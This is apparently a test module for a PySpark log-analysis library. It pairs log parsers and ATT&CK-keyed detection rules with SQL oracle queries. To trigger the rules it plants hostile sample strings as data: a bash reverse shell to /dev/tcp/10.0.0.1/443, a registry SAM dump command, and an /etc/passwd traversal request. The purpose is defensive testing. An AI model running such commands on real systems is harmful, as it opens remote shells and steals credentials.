"""Format parsers, roles, rules, maps and threat texts."""

from __future__ import annotations

from pyspark.sql import functions as F

from logweave.events import EV_SQL, events_view
from logweave.functions import formats, maps, text
from logweave.functions.text import pattern_of
from logweave.operators import paging, roles, rules
from logweave.tables import suffix_is, table

EV = f"with {EV_SQL}"
Q, O = {}, {}


def query(sql: str | None = None):
    def add(f):
        Q[f.__name__] = f
        if sql:
            O[f.__name__] = sql
        return f

    return add


def _lines(s, f):
    return table(s, f, "http_records").select("record_id", "line").distinct()


_ACCESS = r'^(\S+) (\S+) (\S+) \[([^\]]+)\] "([^"]*)" (\d{3}) (\S+)(?: "([^"]*)" "([^"]*)")?(?: (.*))?$'


@query(rf"""with l as (select distinct record_id, line from http_records where regexp_matches(line, '{_ACCESS}')), p as (select record_id, regexp_extract(line, '{_ACCESS}', ['ip', 'x', 'u', 't', 'r', 's', 'z', 'f', 'a', 'rest']) as m from l)
    select record_id, m.ip as client_ip, nullif(nullif(m.u, ''), '-') as "user", m.t as time_local, nullif(nullif(m.r, ''), '-') as request, m.s as status, nullif(m.z, '-') as size, nullif(nullif(m.f, ''), '-') as referer, nullif(nullif(m.a, ''), '-') as agent,
    nullif(m.rest, '') as rest, nullif(regexp_extract(m.r, '^([A-Z]+) (\S+)(?: (HTTP/\S+))?$', 1), '') as method, nullif(regexp_extract(m.r, '^([A-Z]+) (\S+)(?: (HTTP/\S+))?$', 2), '') as path, nullif(regexp_extract(m.r, '^([A-Z]+) (\S+)(?: (HTTP/\S+))?$', 3), '') as protocol from p""")
def parse_access_log(s, f):
    parts = formats.access_log(F.col("line"))
    return _lines(s, f).select("record_id", *[c.alias(k) for k, c in parts.items()]).where("status is not null")


_S5424 = r"^<(\d{1,3})>1 (\S+) (\S+) (\S+) (\S+) (\S+) (-|(?:\[[^\]]*\])+)(?: (.*))?$"


@query(rf"""with p as (select record_id, regexp_extract(line, '{_S5424}', ['p', 't', 'h', 'a', 'i', 'm', 'd', 'x']) as m from (select distinct record_id, line from http_records where regexp_matches(line, '{_S5424}')))
    select record_id, m.t as timestamp, m.h as host, m.a as app, m.i as pid, m.m as msgid, nullif(m.x, '') as message, m.p::int // 8 as facility, m.p::int % 8 as severity from p""")
def parse_syslog5424(s, f):
    parts = formats.syslog5424(F.col("line"))
    return _lines(s, f).select("record_id", *[parts[k].alias(k) for k in ("timestamp", "host", "app", "pid", "msgid", "message", "facility", "severity")]).where("host is not null")


_S3164 = r"^(?:<(\d{1,3})>)?([A-Z][a-z]{2} [ \d]\d \d\d:\d\d:\d\d) (\S+) ([^\s:\[]+)(?:\[(\d+)\])?: (.*)$"


@query(rf"""with p as (select record_id, regexp_extract(line, '{_S3164}', ['p', 't', 'h', 'a', 'i', 'x']) as m from (select distinct record_id, line from http_records where regexp_matches(line, '{_S3164}')))
    select record_id, m.t as timestamp, m.h as host, m.a as app, nullif(m.i, '') as pid, m.x as message from p""")
def parse_syslog3164(s, f):
    parts = formats.syslog3164(F.col("line"))
    return _lines(s, f).select("record_id", *[parts[k].alias(k) for k in ("timestamp", "host", "app", "pid", "message")]).where("host is not null")


@query(f"{EV} select id, code as name, \"user\" as suser, ip as src, latency::varchar as cn1, 'item ' || (id % 7) as msg from ev")
def parse_cef(s, f):
    ev = events_view(s, f)
    line = F.concat(F.lit("Jan  1 00:00:00 h CEF:0|Acme|Wall|1.0|"), F.col("k"), F.lit("|"), F.col("code"), F.lit("|5|src="), F.col("ip"), F.lit(" msg=item "), (F.col("id") % 7), F.lit(" suser="), F.col("user"), F.lit(" cn1="), F.col("latency"))
    p = formats.cef(line)
    return ev.select("id", p["name"].alias("name"), *[p["extension"][k].alias(k) for k in ("suser", "src", "cn1", "msg")])


@query(f"{EV} select id, ip as src, '10.9.8.7' as dst, (k + 1000)::varchar as spt, 'TCP' as proto from ev")
def parse_firewall(s, f):
    ev = events_view(s, f)
    m = formats.firewall(F.concat(F.lit("kernel: [UFW BLOCK] IN=eth0 OUT= SRC="), F.col("ip"), F.lit(" DST=10.9.8.7 PROTO=TCP SPT="), F.col("k") + 1000))
    return ev.select("id", *[m[k].alias(k) for k in ("src", "dst", "spt", "proto")])


def client_inventory(s, f):
    """Access log clients by class, family and system."""
    return roles.client_inventory(parse_access_log(s, f), F.col("agent"))


Q["client_inventory"] = client_inventory


def _cases(column: str, table) -> str:
    return "case " + " ".join(f"when regexp_matches(lower({column}), '{pattern}') then '{name}'" for name, pattern in table) + " end"


_VERSION = "(?:edg(?:e|a|ios)?|opr|samsungbrowser|firefox|fxios|chrome|crios|version)/([0-9.]+)"
O["client_inventory"] = f"""with a as ({O["parse_access_log"]}), v as (select agent, coalesce(nullif(regexp_extract(agent, '{_VERSION}', 1, 'i'), ''), nullif(regexp_extract(agent, '^[\\w.-]+/([0-9.]+)', 1), '')) as version from a where agent is not null),
    c as (select {_cases("agent", formats.AGENT_FAMILIES)} as class, coalesce({_cases("agent", formats.BROWSERS)}, nullif(regexp_extract(agent, '^([\\w.-]+)/', 1), '')) as family, {_cases("agent", formats.SYSTEMS)} as os,
      (lower(agent) like '%windows nt%' and lower(agent) like '%iphone%') or (lower(agent) like '%firefox/%' and lower(agent) like '%chrome/%') or coalesce(try_cast(version as double) > 400, false) as odd from v)
    select class, family, os, count(*) as n, count_if(odd)::bigint as anomalies from c group by 1, 2, 3"""


@query("""with d as (select distinct id, part_file, regexp_extract(raw, '^(\\d{1,2})[/.-](\\d{1,2})[/.-]\\d{2,4}', 1) as a, regexp_extract(raw, '^(\\d{1,2})[/.-](\\d{1,2})[/.-]\\d{2,4}', 2) as b from event_def where part_file like '%.csv'),
    n as (select part_file, try_cast(a as int) as a, try_cast(b as int) as b from d), c as (select part_file, count_if(a between 13 and 31 and b between 1 and 12) as x, count_if(b between 13 and 31 and a between 1 and 12) as y from n group by 1)
    select part_file, case when x > y then true when y > x then false end as day_first from c""")
def learn_day_first(s, f):
    rows = table(s, f, "event_def").where(suffix_is(".csv")).select("id", "part_file", "raw").distinct()
    return rows.groupBy("part_file").agg(roles.day_first(F.col("raw")).alias("day_first"))


def _with_fields(s, f):
    ev = events_view(s, f)
    fields = F.create_map(F.lit("UserName"), F.col("user"), F.lit("c-ip"), F.col("ip"), F.lit("status"), F.when(F.col("code") == "error", "500").otherwise("200"), F.lit("uri"), F.concat(F.lit("/upload/"), F.col("id") % 7, F.when(F.col("k") > 90, ".php?x=1").otherwise(".html")),
        F.lit("method"), F.col("code"))
    return ev.select("id", "ts", "source", "code", "level", "message", fields.alias("fields"))


@query(f"{EV} select id, \"user\", ip as src_ip, case when code = 'error' then 'failure' else 'success' end as outcome, 'privado' as src_scope, 'activity' as action, '/upload/' || (id % 7) || case when k > 90 then '.php?x=1' else '.html' end as url from ev")
def roles_annotated(s, f):
    return roles.with_roles(_with_fields(s, f)).select("id", *[F.col(f"roles.{k}").alias(k) for k in ("user", "src_ip", "outcome", "src_scope", "action", "url")])


@query(f"{EV} select id, '/upload/' || (id % 7) || case when k > 90 then '.php' else '.html' end as path, case when k > 90 then 'true' end as script, 'true' as upload_dir, case when code = 'error' then '5xx' else '2xx' end as status_class from ev")
def security_overlay(s, f):
    sec = roles.with_security(_with_fields(s, f))
    return sec.select("id", *[F.try_element_at("_sec", F.lit(k)).alias(n) for k, n in (("url.path", "path"), ("web.script", "script"), ("web.upload_dir", "upload_dir"), ("http.status_class", "status_class"))])


# Events with windows numbers, commands and requests, so that each of the base rules meets some.
_SEC = f"""{EV}, sec as (select *,
    case id % 23 when 0 then '4625' when 1 then '4624' when 2 then '4720' when 3 then '4732' when 4 then '1102' when 5 then '7045' when 6 then '4698' when 7 then '4719' when 8 then '4688' when 9 then '4625' when 10 then '4625' end as number,
    case when id % 46 = 8 then 'reg.exe SAVE hklm' || chr(92) || 'sam x' when id % 46 = 31 then 'bash -i >& /dev/tcp/10.0.0.1/443 0>&1' when id % 23 = 8 then 'dir' end as command,
    case when id % 23 = 11 then 'POST /uploads/a.php' when id % 23 = 12 then 'GET /x?f=../../etc/passwd' when id % 23 = 13 then 'GET /index.html' end as url,
    case when code = 'error' then '500' else '200' end as status from ev)"""


def _secured(s, f):
    ev = events_view(s, f)
    k = F.col("id") % 23
    number = F.lit(None).cast("string")
    for n, code in enumerate(("4625", "4624", "4720", "4732", "1102", "7045", "4698", "4719", "4688", "4625", "4625")):
        number = F.when(k == n, code).otherwise(number)
    command = F.when(F.col("id") % 46 == 8, "reg.exe SAVE hklm\\sam x").when(F.col("id") % 46 == 31, "bash -i >& /dev/tcp/10.0.0.1/443 0>&1").when(k == 8, "dir")
    url = F.when(k == 11, "POST /uploads/a.php").when(k == 12, "GET /x?f=../../etc/passwd").when(k == 13, "GET /index.html")
    fields = {"user": F.col("user"), "src_ip": F.col("ip"), "host": F.col("source"), "cmdline": command, "url": url, "status": F.when(url.isNotNull(), F.when(F.col("code") == "error", "500").otherwise("200"))}
    made = F.map_filter(F.create_map(*[x for n, c in fields.items() for x in (F.lit(n), c)]), lambda _, v: v.isNotNull())
    return ev.select("id", "ts", "source", number.alias("code"), "level", "message", made.alias("fields"))


_SINGLES = f"""{_SEC}, found as (
    select 'T1003-registry-secrets' as rule, 'high' as severity, 3 as evidence, source as entity, ts as first from sec where number = '4688' and command like 'reg%'
    union all select 'T1053-task', 'low', 2, source, ts from sec where number = '4698' union all select 'T1059-shell-handed-out', 'critical', 4, source, ts from sec where command like 'bash%'
    union all select 'T1070-log-cleared', 'high', 4, source, ts from sec where number = '1102' union all select 'T1098-group-member', 'medium', 2, source, ts from sec where number = '4732'
    union all select 'T1136-account', 'medium', 2, source, ts from sec where number = '4720' union all select 'T1190-answered-probe', 'high', 3, source, ts from sec where url like '%passwd' and status = '200'
    union all select 'T1505-script-sent', 'high', 3, source, ts from sec where url like 'POST%' union all select 'T1543-service', 'medium', 2, source, ts from sec where number = '7045'
    union all select 'T1562-audit-policy', 'medium', 3, source, ts from sec where number = '4719')"""


@query(f"{_SINGLES} select *, first as last, 1::bigint as n from found")
def rules_findings(s, f):
    """All base rules on single events, in one pass."""
    return rules.run_all(rules.flat(_secured(s, f)), [r for r in rules.BASE if r["kind"] == "single"])


_FAILED = "select \"user\" as k, ip, ts, id from sec where number = '4625'"


@query(f"""{_SEC}, f as ({_FAILED}), w as (select *, count(*) over (partition by k order by ts range between 259200000 preceding and current row) as c from f), h as (select * from w where c >= 3),
    g as (select *, case when ts - lag(ts) over (partition by k order by ts, id) <= 259200000 then 0 else 1 end as b from h), r as (select *, sum(b) over (partition by k order by ts, id) as run from g)
    select 'T1110-guessing' as rule, 'medium' as severity, 2 as evidence, k as entity, min(ts) as first, max(ts) as last, count(*) as n from r group by k, run
    union all select 'T1078-new-source', 'low', 2, source, ts, ts, 1 from (select source, ts, row_number() over (partition by source order by ts, id) - 1 as prior, row_number() over (partition by source, "user" order by ts, id) as nth from sec where number = '4624') where nth = 1 and prior >= 5""")
def rules_windows(s, f):
    """The base rules on counts and on new values, with spans and fields that suit events of a month."""
    own = {"T1110-guessing": {"window": "3d", "count": 3}, "T1078-new-source": {"by": ["host"], "field": "identity"}}
    return rules.run_all(rules.flat(_secured(s, f)), [r | own[r["id"]] for r in rules.BASE if r["id"] in own])


def rules_sequences(s, f):
    """The base rules on several values and on steps."""
    return rules.run_all(rules.flat(_secured(s, f)), [r for r in rules.BASE if r["kind"] in ("distinct", "sequence")])


Q["rules_sequences"] = rules_sequences
_TACTIC = "case substr(rule, 1, 5) when 'T1003' then 'credential-access' when 'T1059' then 'execution' when 'T1070' then 'defense-evasion' when 'T1562' then 'defense-evasion' when 'T1190' then 'initial-access' else 'persistence' end"


@query(f"{_SINGLES} select {_TACTIC} as tactic, count(*) as findings, count(distinct entity) as entities, arg_max(severity, case severity when 'low' then 1 when 'medium' then 2 when 'high' then 3 else 4 end) as severity from found group by 1")
def rules_tactics(s, f):
    return rules.tactics(rules_findings(s, f))


@query(f"""{_SINGLES}, b as (select min(first) as a, -(-(max(first) - min(first) + 1) // 24) as w0, (max(first) - min(first) + 1 + 23) // 24 as w from found)
    select substr(rule, 1, 5) as theme, a + (first - a) // w * w as start, count(*) as n from found, b group by 1, 2""")
def rules_themes(s, f):
    return rules.themes(rules_findings(s, f))


@query(f"""{_SEC} select threat, category, severity, count(*) as n from (select 'traversal' as threat, 'web' as category, 'medium' as severity from sec where url like '%passwd'
    union all select 'reverse-shell', 'command', 'high' from sec where command like 'bash%') group by all""")
def threat_scan(s, f):
    """Threat texts in commands and requests."""
    rows = _secured(s, f).select("id", F.coalesce(F.try_element_at("fields", F.lit("cmdline")), F.try_element_at("fields", F.lit("url"))).alias("text"))
    return rules.threat_scan(rows.where("text is not null"), F.col("text")).groupBy("threat", "category", "severity").agg(F.count("*").alias("n"))


_MAP = {"rules": [
    {"priority": 5, "selector": {"event_id": "error"}, "mappings": [{"to": "actor", "from": ["user"], "steps": ["strip_prefix:user-", "trim"], "type": "integer"}, {"to": "kind", "from": ["code"], "steps": ["upper"]}]},
    {"priority": 1, "when": "k>=50", "mappings": [{"to": "actor", "from": ["missing", "ip"], "type": "ip"}, {"to": "kind", "from": ["size"], "type": "decimal", "on_invalid": "keep", "on_missing": "default", "default": "none"}]},
]}


@query(f"{EV} select id, case when code = 'error' then substr(\"user\", 6) when k >= 50 then ip end as actor, case when code = 'error' then 'ERROR' when k >= 50 then coalesce(size, 'none') end as kind from ev")
def map_apply(s, f):
    return maps.apply_map(events_view(s, f), _MAP).select("id", "actor", "kind")


@query(f"{EV}, m as (select case when code = 'error' or k >= 50 then 1 end as v from ev) select field, count(v) as filled, count(*) as total from m, (values ('actor'), ('kind')) t(field) group by 1")
def map_coverage(s, f):
    return maps.coverage(events_view(s, f), _MAP)


@query(f"{EV} select regexp_replace(regexp_replace(message, '[a-z]+', 'a', 'g'), '[0-9]+', '9', 'g') as shape, count(*) as n, min(message) as example from ev group by 1")
def map_shapes(s, f):
    return maps.shapes(events_view(s, f), "message")


@query(f"{EV} select id, len(regexp_extract_all(message, '[0-9]+')) as n, strpos(message, regexp_extract(message, '[0-9]+')) - 1 as first_start from ev")
def match_spans(s, f):
    found = maps.spans(F.col("message"), "[0-9]+")
    return events_view(s, f).select("id", F.size(found).alias("n"), found[0]["start"].alias("first_start"))


@query(f"{EV} select ts - ts % 3600000 as start, count(*) as hits from ev where contains(message, 'item 3') group by 1")
def search_buckets(s, f):
    return paging.search_buckets(events_view(s, f), F.contains(F.col("message"), F.lit("item 3")), 3_600_000)


@query("select id, part_file, source from event_def where part_file = 'erp-07.csv' and id between 200 and 400 group by all")
def event_context(s, f):
    return paging.context(table(s, f, "event_def"), "erp-07.csv", 300, 100).select("id", "part_file", "source").distinct()


def document_patterns(s, f):
    """Patterns of the first lines of all documents."""
    return table(s, f, "documents").where("text is not null").groupBy(pattern_of(F.col("text")).alias("pattern")).agg(F.count("*").alias("n")).where("n >= 2")


Q["document_patterns"] = document_patterns
O["document_patterns"] = f"select substr(regexp_replace(split_part(text, chr(10), 1), '{text._MASKED}', '{text.MASK}', 'g'), 1, {text.PATTERN_CHARS}) as pattern, count(*) as n from documents where text is not null group by 1 having count(*) >= 2"
QUERIES, ORACLE = Q, O
